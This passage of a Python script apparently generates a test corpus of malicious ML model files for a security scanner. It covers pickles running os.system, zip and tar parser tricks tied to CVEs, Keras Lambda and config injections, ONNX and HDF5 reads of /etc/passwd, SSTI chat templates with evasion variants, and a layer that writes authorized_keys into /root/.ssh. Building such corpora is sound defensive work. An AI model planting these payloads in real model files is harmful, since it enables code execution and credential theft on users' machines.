        proto(4) + MARK + sg("smtplib", "SMTP") + u("127.0.0.1") + OBJ + POP + NONE + STOP,
        "C7",
        "OBJ smtplib.SMTP then POP, value is None (GHSA-mxhj-88fx-4pcv)",
    )
    w.file(
        "c7_reduce_popped",
        "model.pkl",
        proto(4) + gcall("os", "system", CMD) + POP + NONE + STOP,
        "C7",
        "os.system result popped, pickle returns None",
    )

    # C8 INST and OBJ
    w.file(
        "c8_inst_os_system",
        "model.pkl",
        b"(" + s0(CMD) + b"ios\nsystem\n.",
        "C8",
        "protocol-0 INST os system",
    )
    w.file(
        "c8_obj_os_system",
        "model.pkl",
        proto(2) + b"(" + glob("os", "system") + u(CMD) + OBJ + STOP,
        "C8",
        "OBJ with GLOBAL os system",
    )
    w.file(
        "c8_inst_subprocess",
        "model.pkl",
        b"(" + b"(lp0\n" + s0("id") + b"aisubprocess\ncheck_output\n.",
        "C8",
        "INST subprocess.check_output(['id'])",
    )

    # C9 expansion + payload
    levels = proto(4) + EMPTY_LIST + binput(0) + POP
    for i in range(1, 40):
        levels += MARK + binget(i - 1) * 10 + LIST + binput(i) + POP
    billion = levels + binget(39) + POP + gcall("os", "system", CMD) + STOP
    w.file(
        "c9_billion_laughs_then_payload",
        "model.pkl",
        billion,
        "C9",
        "39 levels of 10x list references (10^39 logical items), then os.system",
    )
    dups = proto(4) + MARK + NONE + DUP * 300_000 + POP_MARK + gcall("os", "system", CMD) + STOP
    w.file("c9_dup_flood_then_payload", "model.pkl", dups, "C9", "300k DUPs, POP_MARK, then os.system")


# ----------------------------------------------------------------------------------------------------------
# D: container / file-type tricks
# ----------------------------------------------------------------------------------------------------------


def _d_containers(w: Writer) -> None:
    evil2 = reduce_pickle("os", "system", CMD, protocol=2)
    evil4 = reduce_pickle("subprocess", "run", ["sh", "-c", CMD], protocol=4)

    # D1 raw pickle with torch names
    w.file(
        "d1_raw_pickle_pytorch_model_bin",
        "pytorch_model.bin",
        evil2,
        "D1",
        "raw pickle named pytorch_model.bin",
    )
    w.file("d1_raw_pickle_model_pt", "model.pt", evil4, "D1", "raw protocol-4 pickle named model.pt")
    w.file(
        "d1_raw_pickle_ckpt",
        "last.ckpt",
        pickle.dumps(Reduce(os.system, (CMD,)), protocol=5),
        "D1",
        "raw protocol-5 pickle named last.ckpt",
    )

    # D2 pickle in oddly named zip members
    w.file(
        "d2_zip_member_config",
        "model.zip",
        F.zip_bytes([("config", evil4), ("README.md", b"# model\n")]),
        "D2",
        "pickle in member named 'config'",
    )
    p0 = glob("os", "system") + b"(" + s0(CMD) + b"tR."
    w.file(
        "d2_zip_member_proto0_noext",
        "bundle.zip",
        F.zip_bytes([("weights/payload", p0), ("weights/meta.txt", b"v1\n")]),
        "D2",
        "protocol-0 pickle (no PROTO byte) in member without extension",
    )
    w.file(
        "d2_torch_zip_data_txt",
        "model.pt",
        F.torch_zip_with_pickle(pickle.dumps({"w": 1}, protocol=2), extra=[("archive/data.txt", evil2)]),
        "D2",
        "torch zip with an extra pickle member named data.txt",
    )

    # D3 odd file names
    for name, fname, data in (
        ("d3_checkpoint_pth_tar", "checkpoint.pth.tar", evil2),
        ("d3_model_sav", "model.sav", evil4),
        ("d3_x_model", "x.model", p0),
        ("d3_y_p", "y.p", pickle.dumps(Reduce(os.system, (CMD,)), protocol=3)),
    ):
        w.file(name, fname, data, "D3", f"raw malicious pickle named {fname}")

    # D4 local header name differs from the central directory
    tz = F.torch_zip_with_pickle(evil2)
    w.file(
        "d4_zip_local_central_mismatch",
        "model.pt",
        F.zip_rename_local(tz, "archive/data.pkl", "archive/datap.kl"),
        "D4",
        "local header says archive/datap.kl, central directory archive/data.pkl (CVE-2025-1944)",
    )

    # D5 flag bits
    for bit in (0x1, 0x20, 0x40):
        w.file(
            f"d5_zip_flag_{bit:#04x}",
            "model.pt",
            F.zip_set_flags(tz, "archive/data.pkl", bit),
            "D5",
            f"general-purpose flag {bit:#x} set on data.pkl, data stored in clear (CVE-2025-1945)",
        )

    # D6 CRC mismatch
    tz456 = F.torch_zip_with_pickle(reduce_pickle("os", "system", "echo bypass-456", protocol=2))
    off, size = F.zip_member_data_offset(tz456, "archive/data.pkl")
    member = tz456[off : off + size].replace(b"bypass-456", b"bypass-123")
    w.file(
        "d6_zip_crc_mismatch",
        "model.pt",
        tz456[:off] + member + tz456[off + size :],
        "D6",
        "payload bytes changed after writing, CRC-32 no longer matches (CVE-2025-10156)",
    )

    # D7 7z, tar, nested zip
    import py7zr

    def write_7z(path: Any, members: list[tuple[str, bytes]]) -> None:
        with py7zr.SevenZipFile(path, "w") as z:
            for n, d in members:
                z.writestr(d, n)

    broken = proto(2) + glob("os", "system") + u(CMD) + TUPLE1 + REDUCE + b"\xff\xfe\x00garbage"
    w.write_with(
        "d7_7z_torch_nullifai",
        "model.7z",
        lambda p: write_7z(
            p, [(n, broken if n.endswith("data.pkl") else d) for n, d in F.torch_zip_members()]
        ),
        "D7",
        "nullifAI: torch archive members compressed with 7z, broken data.pkl",
    )
    w.write_with(
        "d7_7z_pickle",
        "weights.7z",
        lambda p: write_7z(p, [("model.pkl", evil4)]),
        "D7",
        "7z with a malicious model.pkl",
    )

    def tar_bytes(members: list[tuple[str, bytes]], mode: str = "w") -> bytes:
        buf = io.BytesIO()
        with tarfile.open(fileobj=buf, mode=mode) as tf:
            for n, d in members:
                ti = tarfile.TarInfo(n)
                ti.size = len(d)
                ti.mtime = 1_700_000_000
                tf.addfile(ti, io.BytesIO(d))
        return buf.getvalue()

    w.file(
        "d7_tar_torch_v011",
        "model.tar",
        tar_bytes(
            [
                ("sys_info", pickle.dumps({"little_endian": True}, protocol=2)),
                ("pickle", evil2),
                ("storages", pickle.dumps(0, protocol=2)),
                ("tensors", pickle.dumps(0, protocol=2)),
            ]
        ),
        "D7",
        "PyTorch v0.1.1 tar layout with a malicious 'pickle' member",
    )
    w.file(
        "d7_tar_gz_pickle",
        "model.tar.gz",
        tar_bytes([("model/model.pkl", evil4)], mode="w:gz"),
        "D7",
        "gzip'd tar with a malicious pickle",
    )
    w.file(
        "d7_nested_zip_in_zip",
        "bundle.zip",
        F.zip_bytes([("inner/model.zip", F.zip_bytes([("model.pkl", evil2)])), ("README", b"x\n")]),
        "D7",
        "zip inside zip, malicious pickle in the inner one",
    )
    w.file(
        "d7_nested_torch_in_zip",
        "models.zip",
        F.zip_bytes([("ckpt/model.pt", tz)], compression=zipfile.ZIP_DEFLATED),
        "D7",
        "torch zip checkpoint deflated inside another zip",
    )

    # D8 compressed joblib
    w.file("d8_joblib_gzip", "model.joblib", gzip.compress(evil2, mtime=0), "D8", "gzip-compressed pickle")
    w.file(
        "d8_joblib_zlib", "model.joblib", zlib.compress(evil2), "D8", "zlib-compressed pickle (joblib zlib)"
    )
    w.file("d8_joblib_bz2", "model.joblib", bz2.compress(evil4), "D8", "bz2-compressed pickle")
    w.file("d8_joblib_xz", "model.joblib", lzma.compress(evil4, format=lzma.FORMAT_XZ), "D8", "xz pickle")
    w.file(
        "d8_joblib_lzma",
        "model.joblib",
        lzma.compress(evil2, format=lzma.FORMAT_ALONE),
        "D8",
        "lzma-alone pickle",
    )
    import lz4.frame

    w.file("d8_joblib_lz4", "model.joblib", lz4.frame.compress(evil2), "D8", "lz4-frame pickle")
    w.file("d8_pkl_gz", "model.pkl.gz", gzip.compress(p0, mtime=0), "D8", "gzip'd protocol-0 pickle")

    # D9 numpy containers
    obj_npy = F.npy_header("|O", (1,)) + evil2
    w.file("d9_object_npy", "weights.npy", obj_npy, "D9", "object-dtype .npy whose pickle is os.system")
    import numpy as np

    numeric = io.BytesIO()
    np.save(numeric, np.arange(4, dtype=np.float32))
    w.file(
        "d9_npz_object_member",
        "arrays.npz",
        F.zip_bytes([("arr_0.npy", numeric.getvalue()), ("arr_1.npy", obj_npy)]),
        "D9",
        "npz with one numeric and one malicious object member",
    )
    w.file(
        "d9_dns_exfil_npy",
        "dns_exfiltration.npy",
        F.npy_header("|O", (2,))
        + reduce_pickle("ssl", "get_server_certificate", ("127.0.0.1", 443), protocol=3),
        "D9",
        "object .npy with ssl.get_server_certificate (DNS exfil shape)",
    )

    # D10 password flag on a member stored in clear
    wz = F.zip_bytes([("model.pkl", evil2)])
    w.file(
        "d10_password_flag_member",
        "weights.zip",
        F.zip_set_flags(wz, "model.pkl", 0x1),
        "D10",
        "member flagged encrypted (bit 0) but stored in clear",
    )


# ----------------------------------------------------------------------------------------------------------
# E: non-pickle formats and repositories
# ----------------------------------------------------------------------------------------------------------


def _lambda_b64() -> str:
    def f(x):  # never called; its code is serialised like Keras' func_dump does
        __import__("os").system("echo bypass")
        return x

    return base64.b64encode(marshal.dumps(f.__code__)).decode("ascii")


def _keras_zip(config: dict[str, Any]) -> bytes:
    import h5py

    wbuf = io.BytesIO()
    with h5py.File(wbuf, "w") as h:
        h.create_group("layers")
        h.create_group("vars")
    meta = {"keras_version": "3.8.0", "date_saved": "2025-01-01@00:00:00"}
    return F.zip_bytes(
        [
            ("metadata.json", json.dumps(meta).encode()),
            ("config.json", json.dumps(config).encode()),
            ("model.weights.h5", wbuf.getvalue()),
        ],
        compression=zipfile.ZIP_DEFLATED,
    )


def _k3_layer(cls: str, config: dict[str, Any], module: str = "keras.layers") -> dict[str, Any]:
    return {"module": module, "class_name": cls, "config": config, "registered_name": None}


def _k3_sequential(name: str, layers: list[dict[str, Any]]) -> dict[str, Any]:
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": name, "trainable": True, "dtype": "float32", "layers": layers},
        "registered_name": None,
        "build_config": {"input_shape": [None, 4]},
    }


def _onnx_model(initializer: Any) -> bytes:
    from onnx import TensorProto, helper

    x = helper.make_tensor_value_info("X", TensorProto.FLOAT, [1, 4])
    y = helper.make_tensor_value_info("Y", TensorProto.FLOAT, [1, 2])
    node = helper.make_node("MatMul", ["X", "W"], ["Y"])
    graph = helper.make_graph([node], "g", [x], [y], initializer=[initializer])
    model = helper.make_model(
        graph, producer_name="weighbridge-corpus", opset_imports=[helper.make_opsetid("", 17)]
    )
    model.ir_version = 8
    return model.SerializeToString()


def _external_w(location: str, length: int = 32) -> Any:
    from onnx import TensorProto

    t = TensorProto(name="W", dims=[4, 2], data_type=TensorProto.FLOAT)
    t.data_location = TensorProto.EXTERNAL
    for k, v in (("location", location), ("offset", "0"), ("length", str(length))):
        e = t.external_data.add()
        e.key, e.value = k, v
    return t


def _e_formats(w: Writer) -> None:
    # E2 Keras
    lam = _k3_layer(
        "Lambda",
        {
            "name": "lambda",
            "trainable": True,
            "dtype": "float32",
            "arguments": {},
            "function": {
                "class_name": "__lambda__",
                "config": {"code": _lambda_b64(), "defaults": None, "closure": None},
            },
        },
    )
    dense = _k3_layer("Dense", {"name": "dense", "units": 2, "activation": "linear", "use_bias": True})
    cfg = _k3_sequential(
        "outer",
        [
            _k3_layer("InputLayer", {"batch_shape": [None, 4], "name": "input"}),
            _k3_sequential("inner", [lam]),
            dense,
        ],
    )
    w.file(
        "e2_keras_nested_lambda",
        "model.keras",
        _keras_zip(cfg),
        "E2",
        "Lambda with base64 bytecode inside a nested Sequential",
    )
    act = {"module": "os", "class_name": "function", "config": "system", "registered_name": "system"}
    dense_evil = _k3_layer("Dense", {"name": "dense", "units": 2, "activation": act, "use_bias": True})
    cfg = _k3_sequential(
        "seq", [_k3_layer("InputLayer", {"batch_shape": [None, 4], "name": "input"}), dense_evil]
    )
    w.file(
        "e2_keras_config_os_system",
        "model.keras",
        _keras_zip(cfg),
        "E2",
        "config.json activation names module 'os' function 'system' (CVE-2025-1550 style)",
    )
    evil_layer = {
        "module": "subprocess",
        "class_name": "Popen",
        "config": {"args": ["sh", "-c", CMD]},
        "registered_name": "Popen",
    }
    cfg = _k3_sequential(
        "seq", [_k3_layer("InputLayer", {"batch_shape": [None, 4], "name": "input"}), evil_layer]
    )
    w.file(
        "e2_keras_config_module_class",
        "model.keras",
        _keras_zip(cfg),
        "E2",
        "layer entry with module 'subprocess' class 'Popen'",
    )

    import h5py

    legacy_cfg = {
        "class_name": "Sequential",
        "config": {
            "name": "sequential",
            "layers": [
                {
                    "class_name": "InputLayer",
                    "config": {"batch_input_shape": [None, 4], "dtype": "float32", "name": "input_1"},
                },
                {
                    "class_name": "Lambda",
                    "config": {
                        "name": "lambda",
                        "trainable": True,
                        "dtype": "float32",
                        "function": [_lambda_b64(), None, None],
                        "function_type": "lambda",
                        "module": "__main__",
                        "output_shape": None,
                        "arguments": {},
                    },
                },
            ],
        },
    }

    def write_h5(path: Any) -> None:
        with h5py.File(path, "w") as h:
            h.attrs["keras_version"] = "2.15.0"
            h.attrs["backend"] = "tensorflow"
            h.attrs["model_config"] = json.dumps(legacy_cfg)
            h.create_group("model_weights")

    w.write_with("e2_keras_h5_lambda", "model.h5", write_h5, "E2", "legacy .h5 with a Lambda in model_config")

    # E3 ONNX external data escapes
    w.folder(
        "e3_onnx_external_traversal",
        {"model.onnx": _onnx_model(_external_w("../../etc/passwd"))},
        "E3",
        "external_data location '../../etc/passwd'",
        scan="model.onnx",
    )
    w.folder(
        "e3_onnx_external_absolute",
        {"model.onnx": _onnx_model(_external_w("/etc/passwd"))},
        "E3",
        "external_data location is absolute",
        scan="model.onnx",
    )
    w.folder(
        "e3_onnx_external_symlink_file",
        {"model.onnx": _onnx_model(_external_w("weights.bin"))},
        "E3",
        "external data file is a symlink to /etc/passwd",
        scan="model.onnx",
        symlinks={"weights.bin": "/etc/passwd"},
    )
    w.folder(
        "e3_onnx_external_symlink_dir",
        {"model.onnx": _onnx_model(_external_w("data/passwd"))},
        "E3",
        "external data under a symlinked directory (data -> /etc); folder target",
        symlinks={"data": "/etc"},
    )
    w.folder(
        "e3_onnx_external_nested_traversal",
        {"model.onnx": _onnx_model(_external_w("a/../../../etc/hosts"))},
        "E3",
        "location 'a/../../../etc/hosts' (CVE-2024-27318 shape)",
        scan="model.onnx",
    )

    # E4 GGUF SSTI chat templates
    base = {
        "general.architecture": "llama",
        "general.name": "tiny",
        "general.alignment": 32,
        "tokenizer.ggml.model": "gpt2",
        "tokenizer.ggml.tokens": ["<s>", "</s>", "a", "b"],
    }
    tensor = [("tok_embd.weight", (2, 4), struct.pack("<8f", *([0.0] * 8)))]
    ssti1 = (
        "{% for m in messages %}{{ m['content'] }}{% endfor %}"
        "{{ ''.__class__.__mro__[1].__subclasses__()[0] }}"
    )
    ssti2 = (
        "{% set x = cycler.__init__.__globals__.os.popen('id').read() %}"
        "{% for m in messages %}{{ m.role }}: {{ m.content }}\n{% endfor %}"
    )
    ssti3 = (
        "{{ lipsum.__globals__['os'].popen('echo bypass').read() }}"
        "{% for m in messages %}{{ m.content }}{% endfor %}"
    )
    for name, tpl, note in (
        ("e4_gguf_ssti_subclasses", ssti1, "__class__.__mro__ ... __subclasses__()"),
        ("e4_gguf_ssti_cycler_globals", ssti2, "cycler.__init__.__globals__.os.popen"),
        ("e4_gguf_ssti_lipsum_globals", ssti3, "lipsum.__globals__['os'].popen"),
    ):
        w.file(
            name,
            "model.gguf",
            F.gguf_bytes({**base, "tokenizer.chat_template": tpl}, tensor),
            "E4",
            f"GGUF chat template SSTI: {note}",
        )

    # E5 HDF5 external storage
    def write_external(target: str) -> Any:
        def _w(path: Any) -> None:
            with h5py.File(path, "w") as h:
                g = h.create_group("model_weights")
                g.create_dataset("kernel", shape=(256,), dtype="u1", external=[(target, 0, 256)])

        return _w

    w.write_with(
        "e5_hdf5_external_etc_passwd",
        "weights.h5",
        write_external("/etc/passwd"),
        "E5",
        "HDF5 dataset whose storage is external file /etc/passwd",
    )
    w.write_with(
        "e5_hdf5_external_traversal",
        "weights.h5",
        write_external("../../../etc/shadow"),
        "E5",
        "HDF5 dataset external storage with ../ traversal",
    )

    # Repository-level
    st = F.safetensors_from_arrays({"w": __import__("numpy").zeros((2, 2), dtype="float32")})
    cfg = {
        "architectures": ["EvilModel"],
        "model_type": "evil",
        "auto_map": {"AutoConfig": "configuration_evil.EvilConfig", "AutoModel": "modeling_evil.EvilModel"},
        "hidden_size": 4,
    }
    modeling = (
        "import os\nimport torch\n\nos.system('echo bypass')\n\n\n"
        "class EvilModel(torch.nn.Module):\n    pass\n"
    )
    w.folder(
        "hf_auto_map_remote_code",
        {
            "config.json": json.dumps(cfg, indent=2),
            "modeling_evil.py": modeling,
            "configuration_evil.py": "from transformers import PretrainedConfig\n\n\n"
            "class EvilConfig(PretrainedConfig):\n"
            "    model_type = 'evil'\n",
            "model.safetensors": st,
        },
        "E-repo",
        "config.json auto_map -> modeling_evil.py that calls os.system at import",
    )
    tok_cfg = {
        "tokenizer_class": "EvilTokenizer",
        "auto_map": {"AutoTokenizer": ["tokenization_evil.EvilTokenizer", None]},
    }
    w.folder(
        "hf_tokenizer_auto_map",
        {
            "config.json": json.dumps({"model_type": "bert"}),
            "tokenizer_config.json": json.dumps(tok_cfg),
            "tokenization_evil.py": "import subprocess\n"
            "subprocess.run(['sh', '-c', 'echo bypass'])\n"
            "class EvilTokenizer: pass\n",
            "model.safetensors": st,
        },
        "E-repo",
        "tokenizer_config auto_map -> tokenization file running subprocess",
    )
    w.folder(
        "hf_symlink_etc_passwd",
        {"config.json": json.dumps({"model_type": "bert"}), "model.safetensors": st},
        "E-repo",
        "folder with vocab.txt symlinked to /etc/passwd",
        symlinks={"vocab.txt": "/etc/passwd"},
    )
    w.folder(
        "hf_malicious_pytorch_bin",
        {
            "config.json": json.dumps({"model_type": "bert"}),
            "pytorch_model.bin": F.torch_zip_with_pickle(INNER),
        },
        "E-repo",
        "ordinary-looking HF folder whose pytorch_model.bin data.pkl calls os.system",
    )


# ----------------------------------------------------------------------------------------------------------
# Second wave: variants meant to find gaps (evasions of the obvious checks), still one class each
# ----------------------------------------------------------------------------------------------------------


def _extra(w: Writer) -> None:
    evil2 = reduce_pickle("os", "system", CMD, protocol=2)

    # Extension registry: the global is only ever named as string arguments, then resolved by EXT1
    ops = gcall("copyreg", "add_extension", "os", "system", 0xF0) + POP + b"\x82\xf0" + enc((CMD,)) + REDUCE
    w.file(
        "bx_copyreg_extension_ext1",
        "model.pkl",
        stream(ops, protocol=2),
        "B-ext",
        "copyreg.add_extension('os','system',240) then EXT1 240 resolves os.system without a GLOBAL",
    )

    # Real torch.save / joblib.dump output carrying a __reduce__ object among real tensors / arrays
    import joblib
    import numpy as np
    import torch

    w.write_with(
        "ctl_torch_save_with_reduce",
        "pytorch_model.bin",
        lambda p: torch.save({"weight": torch.zeros(3), "hook": Reduce(os.system, (CMD,))}, p),
        "control",
        "real torch.save of a state dict with a __reduce__ object among tensors",
    )
    w.write_with(
        "d8_joblib_dump_object_array",
        "model.joblib",
        lambda p: joblib.dump(
            {"emb": np.zeros(4), "meta": np.array([Reduce(os.system, (CMD,))], dtype=object)}, p, compress=3
        ),
        "D8",
        "real joblib.dump(compress=3) of an object array holding a __reduce__ object",
    )

    # Legacy torch: payload in the sys_info pickle
    magic = pickle.dumps(TORCH_MAGIC, protocol=2)
    w.file(
        "c4_legacy_torch_sys_info",
        "model.pt",
        magic
        + pickle.dumps(TORCH_PROTOCOL, protocol=2)
        + evil2
        + pickle.dumps({}, protocol=2)
        + pickle.dumps([], protocol=2),
        "C4",
        "legacy torch: the third (sys_info) pickle is the payload",
    )

    # Zip: two central-directory entries named archive/data.pkl, benign first, malicious second
    members = [
        ("archive/data.pkl", pickle.dumps({"w": 1}, protocol=2)),
        ("archive/data.pkl", evil2),
        ("archive/version", b"3\n"),
    ]
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        import warnings

        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            for n, d in members:
                zf.writestr(zipfile.ZipInfo(n, date_time=(2024, 1, 1, 0, 0, 0)), d)
    w.file(
        "d4_zip_duplicate_data_pkl",
        "model.pt",
        buf.getvalue(),
        "D4",
        "two members named archive/data.pkl; the second carries the payload",
    )

    # Tar slip
    tbuf = io.BytesIO()
    with tarfile.open(fileobj=tbuf, mode="w") as tf:
        for n, d in (
            ("model/config.json", b"{}"),
            ("../../../tmp/wb-bypass.sh", b"#!/bin/sh\necho bypass\n"),
        ):
            ti = tarfile.TarInfo(n)
            ti.size = len(d)
            ti.mode = 0o755
            tf.addfile(ti, io.BytesIO(d))
    w.file("d7_tar_slip", "model.tar", tbuf.getvalue(), "D7", "tar member path climbs out with ../")

    # GGUF SSTI evasions of attribute-name matching
    base = {
        "general.architecture": "llama",
        "general.name": "tiny",
        "general.alignment": 32,
        "tokenizer.ggml.model": "gpt2",
        "tokenizer.ggml.tokens": ["<s>", "</s>"],
    }
    tensor = [("tok_embd.weight", (2, 2), struct.pack("<4f", 0, 0, 0, 0))]
    concat = (
        "{{ ((cycler|attr('__in' ~ 'it__'))|attr('__glo' ~ 'bals__'))['os'].popen('id').read() }}"
        "{% for m in messages %}{{ m.content }}{% endfor %}"
    )
    hexesc = (
        "{{ lipsum['\\x5f\\x5fglobals\\x5f\\x5f']['os'].popen('id').read() }}"
        "{% for m in messages %}{{ m.content }}{% endfor %}"
    )
    w.file(
        "e4_gguf_ssti_attr_concat",
        "model.gguf",
        F.gguf_bytes({**base, "tokenizer.chat_template": concat}, tensor),
        "E4",
        "SSTI through |attr() with names built by ~ concatenation",
    )
    w.file(
        "e4_gguf_ssti_hex_escape",
        "model.gguf",
        F.gguf_bytes({**base, "tokenizer.chat_template": hexesc}, tensor),
        "E4",
        "SSTI with \\x5f-escaped dunder names in a subscript",
    )
    w.file(
        "e4_gguf_ssti_named_template",
        "model.gguf",
        F.gguf_bytes(
            {
                **base,
                "tokenizer.chat_template": "{% for m in messages %}{{ m.content }}{% endfor %}",
                "tokenizer.chat_template.tool_use": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
            },
            tensor,
        ),
        "E4",
        "benign default template, SSTI in the named template tokenizer.chat_template.tool_use",
    )

    # HF chat templates outside GGUF
    st = F.safetensors_from_arrays({"w": np.zeros((2, 2), dtype="float32")})
    w.folder(
        "hf_tokenizer_config_ssti",
        {
            "config.json": json.dumps({"model_type": "llama"}),
            "tokenizer_config.json": json.dumps({"chat_template": concat}),
            "model.safetensors": st,
        },
        "E4",
        "tokenizer_config.json chat_template with SSTI",
    )
    w.folder(
        "hf_chat_template_jinja_ssti",
        {
            "config.json": json.dumps({"model_type": "llama"}),
            "tokenizer_config.json": json.dumps({"model_max_length": 128}),
            "chat_template.jinja": "{{ lipsum.__globals__['os'].popen('id').read() }}\n",
            "model.safetensors": st,
        },
        "E4",
        "chat_template.jinja file with SSTI",
    )
    w.folder(
        "hf_auto_map_other_repo",
        {
            "config.json": json.dumps(
                {
                    "model_type": "llama",
                    "auto_map": {"AutoModelForCausalLM": "attacker/evil-code--modeling_evil.EvilModel"},
                }
            ),
            "model.safetensors": st,
        },
        "E-repo",
        "auto_map pulls remote code from another repository",
    )

    # Keras: Lambda inside a wrapper layer; function referenced by name (get_file download); TFSMLayer
    lam = _k3_layer(
        "Lambda",
        {
            "name": "lambda",
            "arguments": {},
            "function": {
                "class_name": "__lambda__",
                "config": {"code": _lambda_b64(), "defaults": None, "closure": None},
            },
        },
    )
    wrapped = _k3_layer("TimeDistributed", {"name": "td", "layer": lam})
    cfg = _k3_sequential(
        "seq", [_k3_layer("InputLayer", {"batch_shape": [None, 3, 4], "name": "input"}), wrapped]
    )
    w.file(
        "e2_keras_lambda_in_wrapper",
        "model.keras",
        _keras_zip(cfg),
        "E2",
        "bytecode Lambda inside a TimeDistributed wrapper's config.layer",
    )
    get_file = _k3_layer(
        "Lambda",
        {
            "name": "fetch",
            "function": {
                "module": "keras.utils",
                "class_name": "function",
                "config": "get_file",
                "registered_name": "get_file",
            },
            "arguments": {
                "origin": "http://127.0.0.1:8000/authorized_keys",
                "cache_dir": "/root/.ssh",
                "cache_subdir": ".",
                "fname": "authorized_keys",
            },
        },
    )
    cfg = _k3_sequential(
        "seq", [_k3_layer("InputLayer", {"batch_shape": [None, 4], "name": "input"}), get_file]
    )
    w.file(
        "e2_keras_lambda_get_file",
        "model.keras",
        _keras_zip(cfg),
        "E2",
        "Lambda whose function is keras.utils.get_file writing to ~/.ssh (CVE-2025-8747 style)",
    )
    tfsm = _k3_layer(
        "TFSMLayer", {"name": "tfsm", "filepath": "/tmp/attacker_saved_model", "call_endpoint": "serve"}
    )
    cfg = _k3_sequential("seq", [_k3_layer("InputLayer", {"batch_shape": [None, 4], "name": "input"}), tfsm])
    w.file(
        "e2_keras_tfsmlayer",
        "model.keras",
        _keras_zip(cfg),
        "E2",
        "TFSMLayer loading an external SavedModel (CVE-2026-1462 style)",
    )

    import h5py

    legacy_nested = {
        "class_name": "Functional",
        "config": {
            "name": "outer",
            "layers": [
                {
                    "class_name": "InputLayer",
                    "name": "in",
                    "config": {"batch_input_shape": [None, 4], "name": "in"},
                    "inbound_nodes": [],
                },
                {
                    "class_name": "Sequential",
                    "name": "inner",
                    "config": {
                        "name": "inner",
                        "layers": [
                            {
                                "class_name": "Lambda",
                                "config": {
                                    "name": "lambda",
                                    "function": [_lambda_b64(), None, None],
                                    "function_type": "lambda",
                                    "module": "__main__",
                                    "arguments": {},
                                },
                            }
                        ],
                    },
                    "inbound_nodes": [[["in", 0, 0, {}]]],
                },
            ],
            "input_layers": [["in", 0, 0]],
            "output_layers": [["inner", 0, 0]],
        },
    }

    def write_h5(path: Any) -> None:
        with h5py.File(path, "w") as h:
            h.attrs["keras_version"] = "2.15.0"
            h.attrs["backend"] = "tensorflow"
            h.attrs["model_config"] = json.dumps(legacy_nested).encode()  # stored as bytes, not str
            h.create_group("model_weights")

    w.write_with(
        "e2_keras_h5_nested_lambda",
        "model.h5",
        write_h5,
        "E2",
        "legacy .h5: Lambda inside a nested Sequential of a Functional model, config stored as bytes",
    )


# ----------------------------------------------------------------------------------------------------------
# G: pickles the C unpickler accepts that a header/prefix sniffer or a strict literal parser misses (issue 12)
# ----------------------------------------------------------------------------------------------------------


def _gate(w: Writer) -> None:
    from .pickle_gate import corpus_subset

    for v in corpus_subset():
        w.file(v.name, v.filename, v.data, v.technique, v.note)
